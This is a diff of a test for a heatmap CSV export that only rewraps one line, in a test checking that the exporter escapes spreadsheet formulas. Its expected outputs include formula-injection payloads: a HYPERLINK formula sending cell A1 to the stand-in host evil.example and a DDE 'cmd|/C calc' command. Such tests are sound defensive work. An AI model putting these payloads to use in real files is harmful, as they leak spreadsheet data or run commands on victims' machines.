@@ -75,7 +75,9 @@ describe('the heatmap CSV', () => {
       '\t=1+1',
       '\r=1+1',
     ];
-    const lines = linesOf(heatmapCsv(result(names.map((name) => row(name, [cell()]))), 'en', translator('en')));
+    const lines = linesOf(
+      heatmapCsv(result(names.map((name) => row(name, [cell()]))), 'en', translator('en')),
+    );
     expect(lines.slice(2).map((line) => line.slice(0, line.indexOf('","TEAM"') + 1))).toEqual([
       '"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")"',
       '"\'+1+cmd|/C calc!A0"',
